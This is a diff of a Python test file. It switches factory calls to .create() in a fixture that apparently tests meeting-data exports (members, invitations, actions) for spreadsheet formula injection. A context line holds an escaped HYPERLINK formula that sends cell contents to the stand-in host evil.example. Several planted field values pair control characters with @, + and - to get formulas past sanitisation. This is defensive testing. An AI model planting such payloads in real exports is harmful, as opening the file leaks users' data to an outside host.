@@ -24,14 +24,14 @@ AS_TEXT = '\'=HYPERLINK("http://evil.example/?"&B2,"Klik")'
 @pytest.fixture
 def downloads(organizer):
     """{table: (url, query)} of a meeting whose attendee, agency and action carry PLANTED."""
-    meeting = MeetingFactory(sessions=1)
+    meeting = MeetingFactory.create(sessions=1)
     meeting.organizers.add(organizer)
-    agency = AgencyFactory(name="\x02@" + "Badan Siber", acronym="")
-    member = MemberFactory(full_name=PLANTED, position="\x1b+Penyuluh X9", agency=agency)
-    invitation = AcceptedInvitationFactory(meeting=meeting, member=member, note="\x03-2+3")
+    agency = AgencyFactory.create(name="\x02@" + "Badan Siber", acronym="")
+    member = MemberFactory.create(full_name=PLANTED, position="\x1b+Penyuluh X9", agency=agency)
+    invitation = AcceptedInvitationFactory.create(meeting=meeting, member=member, note="\x03-2+3")
     session = meeting.sessions.get()
-    CheckInFactory(invitation=invitation, session=session)
-    ActionFactory(meeting=meeting, title=PLANTED, responsible_agency=agency)
+    CheckInFactory.create(invitation=invitation, session=session)
+    ActionFactory.create(meeting=meeting, title=PLANTED, responsible_agency=agency)
     return {
         "members": (reverse("members:export", args=["{format}"]), {}),
         "invitations": (
